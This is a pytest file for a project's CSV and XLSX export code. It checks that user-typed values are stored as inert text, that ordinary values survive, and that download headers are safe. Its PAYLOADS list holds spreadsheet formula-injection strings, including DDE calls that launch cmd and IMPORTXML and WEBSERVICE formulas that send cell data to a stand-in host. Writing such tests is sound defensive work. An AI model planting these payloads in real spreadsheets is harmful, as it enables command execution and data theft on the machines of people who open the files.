"""Nothing that a user typed is ever run by the program that opens the table."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.exports import csv_cell, csv_lines, csv_response, xlsx_bytes, xlsx_response

PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.invalid\",\"看\")", "+1",
    "+1+cmd|' /C calc'!A0", "-1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1",
    "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1+1", "　=1+1", "=1+1\n=2", "#REF!", "#N/A",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "@", "=", "==1", "=\"a\"&\"b\"",
    "=IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")", "=WEBSERVICE(\"http://x.invalid\")",
]  # fmt: skip
TEXTS = ["00013800138000", "91330600MA2ABCDE1X", "2026-11-29", "TRUE", "1e5", 'a,b"c\nd', "𠮷䶮"]


def read_csv(rows):
    text = "".join(csv_lines(["甲", "乙"], rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def read_xlsx(rows):
    book = load_workbook(io.BytesIO(xlsx_bytes("客户", ["甲", "乙"], rows)))
    return list(book.active.iter_rows())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_a_string_cell_in_xlsx(payload):
    cell = read_xlsx([[payload, 1]])[1][0]
    assert cell.data_type == "s"
    assert cell.value.strip() == payload.replace("\0", "").replace("\r", "\n").strip()


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if not p.startswith("#")])
def test_a_payload_has_an_apostrophe_in_csv(payload):
    assert read_csv([[payload, 1]])[1][0].startswith("'")


@pytest.mark.parametrize("text", TEXTS)
def test_ordinary_text_comes_through_unchanged(text):
    assert read_csv([[text, ""]])[1][0] == text
    cell = read_xlsx([[text, ""]])[1][0]
    assert (cell.data_type, cell.value) == ("s", text)


def test_numbers_dates_and_moments_stay_what_they_are():
    moment = datetime(2026, 11, 29, 4, 5, 6, tzinfo=UTC)
    values = [Decimal("-4726.50"), 7, date(2026, 11, 29), moment, True, None]
    assert [csv_cell(v) for v in values] == [
        "-4726.50", "7", "2026-11-29", "2026-11-29 12:05", "是", "",
    ]  # fmt: skip
    cells = read_xlsx([values])[1]
    assert [cell.data_type for cell in cells] == ["n", "n", "d", "s", "s"]
    assert float(cells[0].value) == -4726.5


def test_signs_that_xml_cannot_hold_are_left_out():
    assert read_xlsx([["a\x00b\x0b\ud800c", 1]])[1][0].value == "abc"


def test_the_file_has_a_chinese_name_and_is_not_sniffed():
    for response in (csv_response("客户", ["甲"], []), xlsx_response("客户", ["甲"], [])):
        assert "filename*=UTF-8''%E5%AE%A2%E6%88%B7." in response.headers["Content-Disposition"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
